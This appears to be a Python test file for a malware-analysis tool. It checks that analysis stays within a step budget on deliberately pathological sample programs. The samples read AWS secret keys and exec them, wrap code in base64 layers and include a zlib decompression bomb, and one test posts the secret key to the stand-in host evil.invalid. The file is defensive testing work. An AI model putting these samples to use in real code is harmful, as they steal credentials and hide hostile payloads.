"""Hostile programs cost what their size allows: counted in steps, never on a clock."""

# ruff: noqa: E501 - samples stand as somebody would write them
from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import replace

import pytest

from antivenom.model.limits import DEFAULT_LIMITS
from tests.analysis.machines import run

HEAD = "import os, requests\nkey = os.environ['AWS_SECRET_ACCESS_KEY']\n"


def nested_blocks(n: int) -> str:
    depth = min(n, 90)
    lines = [f"{'  ' * d}if key:" for d in range(depth)]
    return HEAD + "\n".join(lines) + f"\n{'  ' * depth}exec(key)\n" * 1 + "x = 1\n" * n


def nested_calls(n: int) -> str:
    return HEAD + "\n".join(f"a{d} = str(" + "str(" * 50 + "key" + ")" * 51 for d in range(n // 50))


def concatenation(n: int) -> str:
    return HEAD + "exec(" + " + ".join(["'abc'"] * n) + ")"


def quarrel(n: int) -> str:
    """Everybody calls everybody behind them, twice."""
    parts = [f"def f{k}(x):\n    exec(x)\n    return f{(k + 1) % n}(x) + f{(k + 2) % n}(x)\n"
             for k in range(n)]  # fmt: skip
    return HEAD + "\n".join(parts) + "f0(key)\n"


def ladder(n: int) -> str:
    """f(n) calls f(n-1) twice with different arguments: 2^n calls."""
    parts = ["def f0(x):\n    exec(x)\n"]
    parts += [f"def f{k}(x):\n    f{k - 1}(x + 'a')\n    f{k - 1}(x + 'b')\n" for k in range(1, n)]
    return HEAD + "\n".join(parts) + f"f{n - 1}('')\n"


def recursion(n: int) -> str:
    return HEAD + f"def f(k):\n    exec(key)\n    return f(k - 1) + f(k - 2)\nf({n})\n"


def loops(n: int) -> str:
    depth = 4
    heads = "".join(f"{'  ' * d}for i{d} in range({n}):\n" for d in range(depth))
    return HEAD + heads + f"{'  ' * depth}exec(key)\n"


def mapping(n: int) -> str:
    return HEAD + "d = {" + ", ".join(f"'k{k}': {k}" for k in range(n)) + "}\nexec(str(d) + key)\n"


def mapping_of_unknown(n: int) -> str:
    return HEAD + "d = {" + ", ".join(f"'k{k}': key" for k in range(n)) + "}\nexec(d['k1'])\n"


def elifs(n: int) -> str:
    arms = "".join(f"elif key == '{k}':\n    v = {k}\n" for k in range(n))
    return HEAD + "if not key:\n    v = 0\n" + arms + "exec(str(v))\n"


def ifs(n: int) -> str:
    return (
        HEAD
        + "v = ''\n"
        + "".join(f"if key == '{k}':\n    v += '{k}'\n" for k in range(n))
        + "exec(v)\n"
    )


def doubling(n: int) -> str:
    return HEAD + "x = 'ab'\n" + "x = x + x\n" * n + "exec(x)\n"


def doubling_by_template(n: int) -> str:
    return HEAD + "x = 'ab'\n" + "x = f'{x}{x}{x}'\n" * n + "exec(x)\n"


def doubling_lists(n: int) -> str:
    return HEAD + "x = [1]\ny = [1]\n" + "x = [x, x]\ny = [y, y]\n" * n + "exec(str(x == y))\n"


def growing_in_a_loop(n: int) -> str:
    return HEAD + f"s = ''\nfor i in range({n}):\n    s += chr(97 + i % 26)\nexec(s)\n"


def waiting(n: int) -> str:
    return HEAD + f"i = 0\nwhile i < {n}:\n    i += 1\n    exec(key)\n"


def layers(n: int) -> str:
    code = "exec(key)"
    for _ in range(min(n, 16)):
        code = f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode())!r}))"
    return HEAD + code + "\n" + "y = 2\n" * n


def quine(n: int) -> str:
    return HEAD + "s = 'exec(s); exec(s + s)'\n" + "exec(s)\n" * n


def quine_that_changes(n: int) -> str:
    return HEAD + "i = 0\ns = 'i += 1; exec(s + chr(10) + str(i))'\nexec(s)\n" + "exec(s)\n" * n


def modules_of_classes(n: int) -> str:
    return HEAD + "".join(
        f"class A{k}:\n    def run(self):\n        exec(key)\nA{k}().run()\n" for k in range(n)
    )


def inheritance(n: int) -> str:
    parts = ["class A0:\n    def go(self):\n        exec(key)\n"]
    parts += [f"class A{k}(A{k - 1}):\n    pass\n" for k in range(1, n)]
    return HEAD + "".join(parts) + "".join(f"A{k}().go()\n" for k in range(n))


def comprehensions(n: int) -> str:
    return HEAD + f"exec(''.join(chr(a ^ b) for a in range({n}) for b in range({n})))\n"


def bombs(n: int) -> str:
    import zlib

    packed = zlib.compress(bytes(1 << 20), 9)
    return HEAD + f"import zlib\nb = {packed!r}\n" + "zlib.decompress(b)\n" * n


def callbacks(n: int) -> str:
    return HEAD + "import threading\n" + "".join(
        f"def f{k}():\n    exec(key)\n    threading.Thread(target=f{(k + 1) % n}).start()\n" for k in range(n)
    ) + "f0()\n"  # fmt: skip


def decorators(n: int) -> str:
    return HEAD + "def d(f):\n    exec(key)\n    return f\n" + "@d\n" * n + "def g(): pass\n"


def alternatives(n: int) -> str:
    """A value that may be many things, called with a value that may be many things."""
    text = HEAD + "f = exec\nx = key\n"
    for k in range(n):
        text += f"if key == '{k}':\n    x = '{k}' + key\n    f = eval\nf(x)\n"
    return text


def many_imports(n: int) -> str:
    return (
        HEAD
        + "".join(f"from os import environ as e{k}\n" for k in range(n))
        + "exec(e0['X_TOKEN'])\n"
    )


NASTY: list[Callable[[int], str]] = [
    nested_blocks, nested_calls, concatenation, quarrel, mapping, mapping_of_unknown, elifs, ifs,
    doubling, doubling_by_template, doubling_lists, growing_in_a_loop, waiting, layers, quine,
    quine_that_changes, modules_of_classes, inheritance, bombs, callbacks, decorators,
    alternatives, many_imports,
]  # fmt: skip
"""Their cost grows with their text (or with the bound of a loop that a program may well run)."""
ENDLESS: list[Callable[[int], str]] = [ladder, recursion, loops, comprehensions]
"""Run as written they would not end: what counts is the end of the budget."""
SMALL = replace(DEFAULT_LIMITS, fold_steps=60_000)


@pytest.mark.parametrize("make", NASTY, ids=lambda m: m.__name__)
def test_twice_the_program_at_most_about_twice_the_steps(make: Callable[[int], str]) -> None:
    one, two = run(make(150)), run(make(300))
    assert one.steps > 0
    assert two.steps <= 2.5 * one.steps + 200
    assert not two.exhausted or make is quine_that_changes  # its texts are too many, and said


@pytest.mark.parametrize("make", [*NASTY, *ENDLESS], ids=lambda m: m.__name__)
def test_the_budget_is_the_end(make: Callable[[int], str]) -> None:
    seen = run(make(400), limits=SMALL)
    assert seen.steps <= 3 * SMALL.fold_steps + 10_000


@pytest.mark.parametrize("make", ENDLESS, ids=lambda m: m.__name__)
def test_what_does_not_end_is_still_understood(make: Callable[[int], str]) -> None:
    seen = run(make(300), limits=SMALL)
    assert "code.run" in seen.ids()


@pytest.mark.parametrize("make", [*NASTY, *ENDLESS], ids=lambda m: m.__name__)
def test_facts_stay_few(make: Callable[[int], str]) -> None:
    seen = run(make(200), limits=SMALL)
    assert len(seen.facts) < 1000
    assert len(seen.layers) <= SMALL.layers


def test_ten_thousand_elifs() -> None:
    seen = run(elifs(2500))
    assert seen.steps < 3 * DEFAULT_LIMITS.fold_steps


def test_nothing_is_lost_in_front_of_the_end() -> None:
    """What stands before the hostile part is reported although the budget ends."""
    text = HEAD + "requests.post('https://evil.invalid', data=key)\n" + loops(300)
    seen = run(text, limits=SMALL)
    assert "secrets.env->net.send" in seen.flows()


def test_a_member_that_was_cut_is_named() -> None:
    tight = replace(DEFAULT_LIMITS, fold_steps=200)
    seen = run({"demo/__init__.py": ifs(2000), "demo/other.py": "x = 1"}, limits=tight)
    assert seen.exhausted == {"demo/__init__.py"}


def test_a_measured_load_is_walked_no_longer_than_it_has_something_to_show() -> None:
    """`pprint` of the standard library times itself on a hundred thousand equal rows."""
    load = "rows = [('string', (1, 2), [3, 4])] * 60000\nfor row in rows:\n    os.kill(row, key)\n"
    assert run(HEAD + load).steps < 20_000
    # Different rows are all walked: a hidden text may be put together from them.
    rows = ", ".join(f"({n}, {n % 7})" for n in range(600))
    seen = run(f"s = ''\nfor a, b in [{rows}]:\n    s += chr(a % 20 + 97)\nexec(s + '=1')\n")
    assert seen.steps > 600
